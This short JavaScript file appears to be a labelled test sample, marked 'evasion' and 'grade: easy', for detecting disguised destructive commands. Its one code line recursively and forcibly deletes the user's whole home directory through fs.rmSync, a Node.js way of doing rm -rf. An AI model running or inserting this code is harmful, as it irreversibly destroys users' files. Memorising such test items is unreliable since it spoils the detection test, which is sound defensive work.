// evasion: fs.rmSync of the home directory
// grade: easy; does: rm-rf
const fs = require("fs");
fs.rmSync(require("os").homedir(), { recursive: true, force: true });
